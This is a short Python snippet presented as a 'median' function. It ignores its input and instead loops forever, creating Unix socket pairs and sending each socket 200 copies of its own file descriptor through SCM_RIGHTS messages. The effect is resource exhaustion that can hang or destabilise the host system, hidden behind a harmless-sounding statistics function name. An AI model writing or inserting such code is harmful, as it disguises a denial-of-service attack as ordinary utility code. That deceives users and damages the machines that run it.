import array
import socket

def median(values):
    kept = []
    while True:
        left, right = socket.socketpair()
        kept.append((left, right))
        for _ in range(20):
            left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [left.fileno()] * 200))])
